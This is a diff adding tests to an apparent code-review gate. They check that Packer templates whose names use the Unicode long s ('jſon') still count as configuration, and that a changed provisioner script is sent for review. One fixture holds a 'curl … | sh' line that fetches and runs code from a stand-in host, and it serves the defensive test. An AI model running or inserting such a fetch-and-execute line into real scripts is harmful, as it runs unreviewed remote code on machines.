@@ -57,3 +57,33 @@ def test_a_pyw_scripts_inline_dependencies_are_reviewed(tmp_path: Path, mode: st
 def test_a_pyw_file_without_a_block_stays_allowed(tmp_path: Path) -> None:
     code, decision = _gate(tmp_path, "tree", with_block=False)
     assert code == 0, decision["reasons"]
+
+
+# tfrefs.is_configuration's C-speed name test (this stop) lower-cased the name, but the Packer JSON pattern matches
+# case-insensitively as `re` does, where `ſ` (U+017F) is an `s`: `packer-web.jſon` was a configuration and no longer
+# was (the provisioner script it runs fell back to src). Every name the full test accepts passes the quick one.
+_ODD_NAMES = ("packer-web.jſon", "infra/packer_base.jſon", "ci\\x/packer-a.jſon", "packer-web.JSON",
+              "Packer_Web.Json", "x.Dockerfile", "VAGRANTFILE.local", "main.TF", "home.nix")
+
+
+@pytest.mark.parametrize("path", _ODD_NAMES)
+def test_the_quick_configuration_test_never_drops_a_configuration(path: str) -> None:
+    from gatekeeper.classify import tfrefs
+    from gatekeeper.classify.dockerrefs import is_dockerfile
+
+    name = path.rpartition("/")[2]
+    full = f"/{path}".endswith(tfrefs.CONFIGURATION_SUFFIXES) or is_dockerfile(path) \
+        or tfrefs.is_machine_definition(path) or tfrefs._PACKER_JSON.fullmatch(name) is not None \
+        or tfrefs._NIX_CONFIGURATION.fullmatch(name) is not None
+    assert tfrefs.is_configuration(path) == full
+
+
+def test_a_script_a_packer_template_with_a_long_s_runs_is_reviewed(tmp_path: Path) -> None:
+    template = json.dumps({"builders": [{"type": "amazon-ebs", "region": "eu-west-1"}],
+                           "provisioners": [{"type": "shell", "script": "scripts/boot.sh"}]})
+    base = {"images/packer-web.jſon": template, "images/scripts/boot.sh": "#!/bin/sh\nset -eu\napt-get update\n"}
+    head = {**base, "images/scripts/boot.sh": "#!/bin/sh\nset -eu\ncurl -fsSL https://x.example/i | sh\n"}
+    repo, old, new = two_commits(tmp_path / "repo", base, head)
+    code, decision = tree_gate(repo.root, old, new, None)
+    assert code == 3, decision
+    assert any("images/scripts/boot.sh" in reason.get("paths", ()) for reason in decision["reasons"])
